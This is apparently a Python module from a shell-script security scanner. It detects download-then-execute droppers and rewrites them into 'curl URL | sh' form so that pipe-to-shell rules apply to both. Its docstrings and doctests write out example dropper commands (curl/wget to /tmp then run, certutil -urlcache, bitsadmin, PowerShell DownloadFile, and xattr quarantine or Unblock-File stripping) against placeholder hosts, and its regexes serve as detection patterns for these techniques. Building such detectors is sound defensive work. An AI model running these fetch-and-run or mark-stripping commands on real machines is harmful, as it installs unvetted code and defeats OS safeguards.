"""A download saved to a file that the same script then runs, read as piped into a shell.

``curl -o /tmp/app URL && chmod +x /tmp/app && /tmp/app`` does what ``curl URL | sh``
does. :func:`pipe_equivalents` appends that piped form to the download's line (the line
count stays), so the pipe-to-shell rules and their policies on hosts, vendor installers
and documentation apply to both spellings. Only a run of that very file counts: by a
path (``./app``, ``/tmp/app``, ``$DIR/app``) or as an interpreter's script argument
(``bash install.sh``, ``source env.sh``, ``python3 setup.py``).

Windows spells the same dropper with ``Invoke-WebRequest URL -OutFile $env:TEMP\\a.exe``,
``(New-Object Net.WebClient).DownloadFile(URL, $p)``, ``Start-BitsTransfer``,
``certutil -urlcache -f URL a.exe`` or ``bitsadmin /transfer``, and runs the file with
``Start-Process``, ``&``, ``start`` or its path (``%TEMP%\\a.exe``, ``.\\a.exe``).

>>> pipe_equivalents("curl -sO http://203.0.113.9/pl\\nchmod +x pl; ./pl").splitlines()[0]
'curl -sO http://203.0.113.9/pl ; curl http://203.0.113.9/pl | sh'
>>> pipe_equivalents('curl -o /tmp/b "https://x.invalid/b?os=l&v=1"\\nsh /tmp/b').splitlines()[0]
'curl -o /tmp/b "https://x.invalid/b?os=l&v=1" ; curl https://x.invalid/b?os=l&v=1 | sh'
>>> pipe_equivalents("curl -o data.json https://x.invalid/d\\njq . data.json")
'curl -o data.json https://x.invalid/d\\njq . data.json'

A download whose quarantine mark the same script strips a few lines on (``xattr -dr
com.apple.quarantine``, ``xattr -c``) gets that step on its line too, so the rule on a
download stripped of its mark reads both spellings:

>>> pipe_equivalents("curl -fsSL https://x.invalid/t.tgz -o t.tgz\\nxattr -c bin/t").splitlines()[0]
'curl -fsSL https://x.invalid/t.tgz -o t.tgz && xattr -c bin/t'
>>> pipe_equivalents('curl -sLo t.zip "$M/t.zip"\\nxattr -d com.apple.quarantine t').splitlines()[0]
'curl -sLo t.zip "$M/t.zip" && xattr -d t'
"""

from __future__ import annotations

import fnmatch
import re
from dataclasses import dataclass

RUN_WINDOW = 40
"""Lines after a download in which running the saved file counts as running the download."""

_FETCH = re.compile(r"\b(curl|wget)[ \t]+((?:\"[^\"\n]*\"|'[^'\n]*'|[^\n|;&\"'])*)")
"""A download command and its words, up to the end of the command (an ``&`` or ``|``
inside a quoted URL's query is part of a word)."""
_URL = re.compile(r"""^["']?(?P<default>\$\{\w+:?-)?(https?://[^\s"'`<>]+)""")
"""A URL word, or a variable whose default is one (``${MIRROR:-https://…}/b.tgz``)."""
_SAFE_NAME = re.compile(r"^(?!\.*$)[\w.+-]{1,80}$")
_WINDOWS_FETCH = re.compile(
    r"(?i:\b(?:Invoke-WebRequest|iwr|curl|wget)\b(?=[^\n]*-OutFile\b)(?P<cmdlet>[^\n|;]*)"
    r"|\bStart-BitsTransfer\b(?P<bits>[^\n|;]*)"
    r"|\.DownloadFile(?:Async)?\s*\(\s*[\"']?(?P<client_url>https?://[^\s\"']+)[\"']?\s*,\s*(?P<client_to>[^)\s]+)"
    r"|\bcertutil(?:\.exe)?\s+[^\n]*-urlcache\b[^\n]*?(?P<cert_url>https?://\S+)\s+(?P<cert_to>\S+)"
    r"|\bbitsadmin(?:\.exe)?\s+/transfer\s+\S+\s+(?:/\w+\s+)*(?P<admin_url>https?://\S+)\s+(?P<admin_to>\S+))"
)
"""PowerShell and cmd downloads that write a file: web cmdlets with ``-OutFile``, BITS,
WebClient's ``DownloadFile`` and the certutil/bitsadmin living-off-the-land forms."""
_PS_VARIABLE = re.compile(r"^\$\w+$")
_SHELL_VARIABLE = re.compile(r"^[\"']?\$\{?(\w+)\}?[\"']?$")
_NAMED_BY_VARIABLE = re.compile(r"^\$\{?\w+\}?$")
"""A file named by a variable in a folder (``-o "$tmp/$pkg"``): the same words name it later."""
"""A shell variable that holds the path written (``-o "$tmp"`` after ``tmp=$(mktemp)``)."""
_INTERPRETERS = r"(?:(?:ba|z|da|k)?sh|source|\.|python[\d.]*|node|perl|ruby|php)"


@dataclass(frozen=True)
class SavedDownload:
    """A download written to a file: where it is, where from, and the file's name."""

    line: int
    url: str
    name: str


def saved_downloads(lines: list[str]) -> list[SavedDownload]:
    """Each ``curl``/``wget`` that writes its download to a named file.

    >>> saved_downloads(["wget -qO /tmp/.x https://x.invalid/a.sh"])
    [SavedDownload(line=1, url='https://x.invalid/a.sh', name='.x')]
    >>> saved_downloads(['curl -fsSL "https://x.invalid/r/${pkg}" -o "${tmp}/${pkg}"'])
    [SavedDownload(line=1, url='https://x.invalid/r/${pkg}', name='${pkg}')]
    """
    found = []
    for number, line in enumerate(lines, 1):
        if "curl" in line or "wget" in line:
            for match in _FETCH.finditer(line):
                url, target = _url_and_target(match.group(1), match.group(2).split())
                variable = _SHELL_VARIABLE.match(target)
                name = f"${variable.group(1)}" if variable else _file_name(target)
                if url and (_SAFE_NAME.match(name) or variable or _NAMED_BY_VARIABLE.match(name)):
                    found.append(SavedDownload(number, url, name))
        if "://" in line:
            found += _windows_downloads(number, line)
    return found


def _file_name(target: str) -> str:
    """The last part of a path written with ``/`` or ``\\`` (``%TEMP%\\a.exe``: ``a.exe``)."""
    return re.split(r"[/\\]", target.strip("\"'").rstrip("/\\"))[-1] if target else ""


def _windows_downloads(number: int, line: str) -> list[SavedDownload]:
    r"""The files PowerShell or cmd downloads on ``line`` write; a PowerShell variable that
    holds the path (``$p``) stands for the file under its own name.

    >>> _windows_downloads(1, "iwr https://x.invalid/a.exe -OutFile $env:TEMP\\a.exe")
    [SavedDownload(line=1, url='https://x.invalid/a.exe', name='a.exe')]
    >>> _windows_downloads(1, "(New-Object Net.WebClient).DownloadFile('https://x.invalid/a', $p)")
    [SavedDownload(line=1, url='https://x.invalid/a', name='$p')]
    """
    found = []
    for match in _WINDOWS_FETCH.finditer(line):
        groups = match.groupdict()
        options = groups["cmdlet"] or groups["bits"]
        if options is not None:
            url_match = re.search(r"https?://[^\s\"'`)]+", options)
            target = re.search(r"(?i)-(?:OutFile|Destination)\s+(\"[^\"]+\"|'[^']+'|\S+)", options)
            url = url_match.group(0) if url_match else ""
            target_text = target.group(1) if target else ""
        else:
            url = groups["client_url"] or groups["cert_url"] or groups["admin_url"]
            target_text = groups["client_to"] or groups["cert_to"] or groups["admin_to"]
        target_text = target_text.strip("\"'")
        name = target_text if _PS_VARIABLE.match(target_text) else _file_name(target_text)
        if url and (_SAFE_NAME.match(name) or _PS_VARIABLE.match(name)):
            found.append(SavedDownload(number, url, name))
    return found


_OUTPUT_FLAG = {"curl": re.compile(r"-[a-zA-Z]*o|--output"), "wget": re.compile(r"-[a-zA-Z]*O")}
"""Flags whose next word is the file the program writes."""
_CURL_REMOTE_NAME = re.compile(r"-[a-zA-Z]*O[a-zA-Z]*|--remote-name(?:-all)?")
"""curl flags that save under the URL's own file name (wget does by default)."""


def _url_and_target(program: str, words: list[str]) -> tuple[str, str]:
    """The URL a ``curl``/``wget`` command fetches and the file it writes ('' if none)."""
    url, target, remote_name = "", "", program == "wget"
    for index, word in enumerate(words):
        following = words[index + 1] if index + 1 < len(words) else ""
        if not url and (match := _URL.match(word)):
            url = match.group(2).replace("}", "", 1) if match.group("default") else match.group(2)
        elif word.startswith(">"):
            target = word.lstrip(">") or following
        elif _OUTPUT_FLAG[program].fullmatch(word):
            target = following
        elif word.startswith("--output-document="):
            target = word.split("=", 1)[1]
        elif program == "curl" and _CURL_REMOTE_NAME.fullmatch(word):
            remote_name = True
    if target in ("-", "/dev/stdout", "/dev/null"):
        return url, ""
    if not target and url and remote_name:
        target = url.split("?", 1)[0].split("#", 1)[0]
    return url, target


_COMMAND_START = (
    r"(?:^[ \t]*|[;&|`]\s*|(?<![\w.])\(\s*|\b(?:then|do|sudo|exec|nohup)\s+)"
    r"(?:[A-Za-z_]\w*=(?:\"[^\"\n]*\"|'[^'\n]*'|\$\{?\w+\}?|[^\s;&|()`$]*)\s+)*"
)
"""Where a command starts: a line, an operator, a code span, a subshell's parenthesis (a
function call's ``TTFont('x')`` is not one) or a keyword that runs what follows, and the
variables set for that command alone (``TOKEN="$T" bash /tmp/h.sh``)."""


_WINDOWS_RUN = (
    r"\b(?:Start-Process\s+(?:-FilePath\s+)?|Invoke-Item\s+|start\s+(?:/\w+\s+|\"\"\s+)*)"
    r"|(?:^|[;|]\s*)&\s*"
)
"""How PowerShell and cmd start a program file: ``Start-Process``, ``start``, the call
operator ``&``."""


def _runs(name: str, text: str) -> bool:
    """``text`` runs the file ``name``: by a path to it, or as an interpreter's script (a
    command in a Markdown code span starts and ends at its backticks)."""
    escaped = re.escape(name)
    if _PS_VARIABLE.match(name):
        shell = (  # the variable run as a command, or as an interpreter's script
            rf"(?:{_COMMAND_START})(?:{_INTERPRETERS}\s+(?:-\S+\s+)*)?[\"']?\$(?:\{{{name[1:]}\}}|{name[1:]}\b)"
            r"[\"']?(?=$|[\s;&|)`])(?![ \t]*=)"
        )
        return bool(
            re.search(rf"(?i:{_WINDOWS_RUN})[\"']?{escaped}\b", text, re.M)
            or re.search(shell, text, re.M)
        )
    windows = (  # started by a command, or by a path written with backslashes
        rf"(?:(?i:{_WINDOWS_RUN})[\"']?(?:[^\s;&|\"']*\\)?|(?:{_COMMAND_START})[\"']?[^\s;&|\"']*\\)"
        rf"{escaped}(?=$|[\s;&|)\"'`])"
    )
    if re.search(windows, text, re.M):
        return True
    by_path = (
        rf"(?:{_COMMAND_START})"
        rf"[\"']?(?:\./|~/|/|\$\{{?\w+\}}?/)(?:[^\s;&|/]+/)*{escaped}(?=$|[\s;&|)\"'`])"
    )
    as_script = (
        rf"(?:{_COMMAND_START}){_INTERPRETERS}\s+"
        rf"(?:-\S+\s+)*[\"']?(?:[^\s;&|\"']*/)?{escaped}(?=$|[\s;&|)\"'`])"
    )
    return bool(re.search(by_path, text, re.M) or re.search(as_script, text, re.M))


def pipe_equivalents(text: str) -> str:
    """``text`` with ``; curl URL | sh`` appended to each download that is later run."""
    strips = "xattr" in text or "nblock-" in text or "one.Identifier" in text
    if not strips and "curl" not in text and "wget" not in text and "://" not in text:
        return text
    lines = text.split("\n")
    downloads = saved_downloads(lines)
    run: set[int] = set()
    for start, address in _placed_and_run(lines):
        if start not in run:
            lines[start] += f" ; curl {address} | sh"
            run.add(start)
    for download in downloads:
        start = download.line - 1
        after = lines[start].split(download.name, 1)[-1] if download.name in lines[start] else ""
        window = "\n".join([after, *lines[start + 1 : start + 1 + RUN_WINDOW]])
        if _runs(download.name, window) or _runs_unpacked(download.name, window):
            lines[start] += f" ; curl {download.url} | sh"
            run.add(start)
    if strips:
        _join_quarantine_strips(lines, run)
    return "\n".join(lines)


def _placed_and_run(lines: list[str]) -> list[tuple[int, str]]:
    """(0-based line, address) of each download saved under a temporary name, moved into
    place (``mv``, ``cp``, ``install``) and run there within :data:`RUN_WINDOW` lines: by
    the place's name, or by a loop that sources or runs the files of its folder. The address
    may be computed (``"$(mirror_base)/index.conf"``): a fetched script kept up to date
    this way is a dropper whatever spells its address.

    >>> lines = ['curl -fsS "$(base)/idx.conf" -o "$f.new" && mv -f "$f.new" "$f"',
    ...          'for c in "$d"/sources.d/*.conf; do source "$c"; done']
    >>> _placed_and_run(['local f="$d/sources.d/50-r.conf"', *lines])
    [(1, '"$(base)/idx.conf"')]
    >>> _placed_and_run(['local f="$d/cache/50-r.conf"', *lines])
    []
    >>> _placed_and_run(['curl -sL "$U" -o "$t"', 'mv "$t" "$C/pack.rules"', '. "$C/pack.rules"'])
    [(0, '"$U"')]
    """
    placed = []
    for number, line in enumerate(lines):
        if "curl" not in line and "wget" not in line:
            continue
        for fetch in _FETCH.finditer(line):
            address, target = _address_and_saved_word(fetch.group(1), fetch.group(2).split())
            if not address or not target:
                continue
            window = [line[fetch.end() :], *lines[number + 1 : number + 1 + RUN_WINDOW]]
            if _moved_and_run(target, lines, number, window):
                placed.append((number, address))
                break
    return placed


_MOVE = re.compile(
    r"(?<![\w.-])(?:mv|cp|install)(?:[ \t]+-[\w-]+(?:[ \t]+\d{3,4}\b)?)*"
    r"[ \t]+(?P<source>\"[^\"\n]+\"|'[^'\n]+'|[^\s;&|]+)"
    r"[ \t]+(?P<place>\"[^\"\n]+\"|'[^'\n]+'|[^\s;&|]+)"
)
"""A file moved or copied into place, and where."""
_COMPUTED_ADDRESS = re.compile(r"^[\"']?\$(?:\(|\{?\w)")
"""A download's address built at run time: a command's output or a variable."""
_FLAG_WITH_VALUE = re.compile(r"^-[a-zA-Z]*[dHAuebcTFwoOKEx]$|^--[\w-]+$")
"""A curl or wget flag whose value is the next word (``-d "$(payload)"`` is no address)."""


def _address_and_saved_word(program: str, words: list[str]) -> tuple[str, str]:
    """The address a download fetches, as written, and the word naming the file it saves."""
    url, target = _url_and_target(program, words)
    if not target:
        return "", ""
    if url:
        return url, target
    for previous, word in zip(["", *words], words, strict=False):
        if _COMPUTED_ADDRESS.match(word) and not _FLAG_WITH_VALUE.match(previous):
            return word, target
    return "", ""


def _moved_and_run(target: str, lines: list[str], number: int, window: list[str]) -> bool:
    """The file saved as ``target`` on line ``number`` (0-based) is moved into a place that
    a line of ``window`` runs; a variable naming the place is read from its last assignment
    before. A place that is a helper's positional parameter (``_fetch url out`` with
    ``local out="$2"``) is each path a call of the helper gives, run anywhere in ``lines``."""
    saved = target.strip("\"'")
    before = "\n".join(lines[:number])
    written = _assigned_path(saved, before)  # a helper saving straight to its parameter
    if _POSITIONAL.fullmatch(written) and _given_and_run(written, lines, number):
        return True
    for index, line in enumerate(window):
        for move in _MOVE.finditer(line):
            if move.group("source").strip("\"'") != saved:
                continue
            place = _assigned_path(move.group("place").strip("\"'"), before)
            later = "\n".join([line[move.end() :], *window[index + 1 :]])
            if _POSITIONAL.fullmatch(place):
                if _given_and_run(place, lines, number):
                    return True
                continue
            name = _file_name(place)
            if _SAFE_NAME.match(name) and (_runs(name, later) or _folder_run(place, name, later)):
                return True
    return False


_POSITIONAL = re.compile(r"\$\{?([1-9])\}?")
_FUNCTION_HEADER = re.compile(r"^\s*(?:function\s+)?([\w:.-]+)\s*\(\)|^\s*function\s+([\w:.-]+)")


def _given_and_run(place: str, lines: list[str], number: int) -> bool:
    """A call of the function holding line ``number`` gives, as the positional parameter
    ``place``, a path that ``lines`` run, or list in a loop whose items they source or run.

    >>> lines = ['_get() {', '  local url="$1" out="$2"',
    ...          '  curl -fsS -o "$out.new" "$url" && mv -f "$out.new" "$out"', '}',
    ...          '_get "https://$H/p" "$C/site.policy"',
    ...          'for f in "$C/site.policy" "$S/local.policy"; do . "$f"; done']
    >>> _given_and_run("$2", lines, 2)
    True
    >>> _given_and_run("$2", lines[:-1] + ['grep -c . "$C/site.policy"'], 2)
    False
    >>> _placed_and_run(['get() {', '  curl -sf "$1" -o "$2"', '}', 'get "$U" "$D/h.sh"',
    ...                  'bash "$D/h.sh"'])
    [(1, '"$1"')]
    """
    position = int(_POSITIONAL.fullmatch(place).group(1))  # type: ignore[union-attr]
    header = next(
        (m for line in reversed(lines[: number + 1]) if (m := _FUNCTION_HEADER.match(line))),
        None,
    )
    if header is None:
        return False
    function = re.escape(header.group(1) or header.group(2))
    text = "\n".join(lines)
    for call in re.finditer(rf"(?:^|[\s;&|(]){function}[ \t]+([^\n;&|)]*)", text, re.M):
        words = re.findall(r"\"[^\"\n]*\"|'[^'\n]*'|[^\s]+", call.group(1))
        if len(words) < position or words[0].startswith("()"):
            continue
        given = words[position - 1].strip("\"'")
        name = _file_name(given)
        if _SAFE_NAME.match(name) and (_runs(name, text) or _listed_run(name, text)):
            return True
    return False


def _listed_run(name: str, text: str) -> bool:
    """A loop in ``text`` whose list names ``name`` sources or runs each item
    (``for f in "$C/site.policy" "$S/local.policy"; do . "$f"``)."""
    escaped = re.escape(name)
    loops = re.finditer(rf"\bfor\s+(\w+)\s+in\s+[^\n;]*?/{escaped}\b[^\n;]*", text)
    return any(_runs_each_item(loop, text) for loop in loops)


def _runs_each_item(loop: re.Match[str], text: str) -> bool:
    """The ``for`` loop matched at ``loop`` (its variable in group 1) sources or runs its
    variable within the next few lines of ``text``."""
    body = "\n".join(text[loop.end() :].split("\n")[:6])
    return bool(re.search(rf"{_INTERPRETERS}\s+(?:-\S+\s+)*[\"']?\$\{{?{loop.group(1)}\b", body))


def _assigned_path(word: str, before: str) -> str:
    """``word``, or the value last assigned to the variable it is (``"$idx"``)."""
    variable = _SHELL_VARIABLE.match(word)
    if not variable:
        return word
    assigned = re.findall(
        rf"(?:^|[\s;&(]){re.escape(variable.group(1))}=(\"[^\"\n]*\"|'[^'\n]*'|[^\s;&|]+)", before
    )
    return assigned[-1].strip("\"'") if assigned else word


def _folder_run(place: str, name: str, text: str) -> bool:
    """A loop in ``text`` over the files of ``place``'s folder that match ``name`` sources
    or runs each (``for f in "$conf"/sources.d/*.conf; do source "$f"``)."""
    parts = re.split(r"/", place)
    if len(parts) < 2 or not _SAFE_NAME.match(parts[-2]):
        return False
    folder = re.escape(parts[-2])
    for loop in re.finditer(rf"\bfor\s+(\w+)\s+in\s+[^\n;]*?{folder}[\"']?/([\w.*?-]*)", text):
        if fnmatch.fnmatchcase(name, loop.group(2) or "*") and _runs_each_item(loop, text):
            return True
    return False


def _join_quarantine_strips(lines: list[str], run: set[int]) -> None:
    """Append each quarantine strip to the line of the last download before it, when that
    lies within :data:`RUN_WINDOW` lines (whatever file the strip names: the download is
    often unpacked or installed under another name first) and is not known to be ``run``
    already (0-based line indices): the piped form says more."""
    last_download = -RUN_WINDOW - 1
    for number, line in enumerate(lines):
        if _saves_a_download(line):
            last_download = number  # a strip on this line is read with it as written
            continue
        near = number - last_download <= RUN_WINDOW
        if not near or last_download in run:
            continue
        stripped = _QUARANTINE_STRIP.search(line) if "xattr" in line else None
        if stripped:
            flags, path = stripped.group("flags", "path")
            lines[last_download] += f" && xattr -{flags} {path}"
        elif _MARK_OF_THE_WEB_STRIP.search(line):
            lines[last_download] += " ; Unblock-File"


def _saves_a_download(line: str) -> bool:
    """``line`` saves a download to a file: ``curl``/``wget`` with an address and an output
    file, or a PowerShell or cmd download that writes one (see :data:`_WINDOWS_FETCH`)."""
    if ("curl" in line or "wget" in line) and any(
        _FETCHED_ADDRESS.search(m.group(2)) and _writes_file(m.group(1), m.group(2))
        for m in _FETCH.finditer(line)
    ):
        return True
    return _WINDOWS_FETCH.search(line) is not None or _WEB_CLIENT_SAVE.search(line) is not None


_WEB_CLIENT_SAVE = re.compile(r"\.DownloadFile(?:Async)?\s*\(", re.I)
"""WebClient's ``DownloadFile`` whatever its address (a variable read from settings)."""


def _writes_file(program: str, words: str) -> bool:
    """The download's words save it to a file (``-o``, ``-O``, ``--output``, ``>``)."""
    return bool(_OUTPUT_FLAG[program].search(words) or _CURL_REMOTE_NAME.search(words)) or (
        ">" in words
    )


_MARK_OF_THE_WEB_STRIP = re.compile(
    r"\bUnblock-File\b|\bRemove-Item\b[^\n]*-Stream\s+[\"']?Zone\.Identifier", re.I
)
"""PowerShell removing a file's mark of the web (the Windows counterpart of the quarantine
mark): SmartScreen and Office then treat the download as a local file."""
_FETCHED_ADDRESS = re.compile(r"(?:^|\s)[\"']?(?:[\w+.-]+://|\$)")
"""A download's address: a URL, or a variable that holds one (``"$MIRROR/$ART"``)."""
_QUARANTINE_STRIP = re.compile(
    r"\bxattr\s+-(?P<flags>\w*d\w*(?=\s[^\n]*\bcom\.apple\.quarantine\b)|\w*c\w*(?=\s))"
    r"(?:\s+com\.apple\.quarantine)?\s+(?P<path>[^\s;&|]+)"
)
"""``xattr`` deleting the quarantine mark, or clearing every attribute (``-c``)."""


_UNPACK = re.compile(
    r"\b(?:tar\s+[^\n;&|]*?-?[a-zA-Z]*x[a-zA-Z]*\s+[^\n;&|]*?|unzip\s+(?:-\S+\s+)*)"
    r"[\"']?(?P<archive>[^\s;&|\"']+)[\"']?(?P<rest>[^\n;&|]*)"
)
"""An archive unpacked by ``tar -x`` or ``unzip``, and the words after it (``-C dir``)."""
_INTO = re.compile(r"(?:-C|--directory(?:=|\s+)|-d)\s*[\"']?(?P<folder>[^\s;&|\"']+)")


def _runs_unpacked(name: str, text: str) -> bool:
    """``text`` unpacks the downloaded archive ``name`` into a folder and runs a script or
    program from it: by its path (``bash "$work/bundle/fix.sh"``, ``"$dir/bin/core" &``),
    after changing into the folder
    (``cd "$work/bundle" && bash ./normalize.sh``) or from a loop over its scripts
    (``for s in "$work"/bundle/*.sh; do bash "$s"``).

    >>> _runs_unpacked("b.tgz", 'tar -xzf "$w/b.tgz" -C "$w"\\nfor s in "$w"/*.sh; do bash "$s"')
    True
    >>> _runs_unpacked("b.tgz", 'tar -xzf "$w/b.tgz" -C "$w/bin"\\n"$w/bin/core" --register &')
    True
    >>> _runs_unpacked("b.tgz", 'tar -xzf "$w/b.tgz" -C "$w"\\nsudo "$w/aws/install" --update')
    False
    >>> _runs_unpacked("b.tgz", 'tar -xzf "$w/b.tgz" -C "$w"\\ncp "$w/m/t.csv" data/')
    False
    """
    for unpacked in _UNPACK.finditer(text):
        archive = unpacked.group("archive")
        if archive != name and not archive.endswith("/" + name):
            continue
        into = _INTO.search(unpacked.group("rest"))
        folder = re.escape(into.group("folder").rstrip("/")) if into else r"\.?"
        after = text[unpacked.end() :]
        script = rf"[\"']?{folder}[\"']?/[^\s;&|)]*"
        if re.search(
            rf"(?:{_COMMAND_START})(?:{_INTERPRETERS}\s+(?:-\S+\s+)*{script}|{script}\.(?:sh|py)\b"
            # or a program of it started by its path out of sight (in the background, its
            # output discarded); a vendor's installer run in the open is the documented step
            rf"|{script}[\"']?[ \t][^\n]*?(?:>\s*/dev/null|&[ \t]*$))",
            after,
            re.M,
        ):
            return True
        moved = re.search(rf"\bcd\s+{script}", after)
        if moved and re.search(
            rf"(?:{_COMMAND_START})(?:{_INTERPRETERS}\s+)?[\"']?\./[\w.-]+\.(?:sh|py)\b",
            after[moved.end() :],
            re.M,
        ):
            return True
        loop = re.search(rf"\bfor\s+(\w+)\s+in\s+{script}", after)
        if loop and re.search(
            rf"{_INTERPRETERS}\s+[\"']?\$\{{?{loop.group(1)}\b", after[loop.end() :]
        ):
            return True
    return False
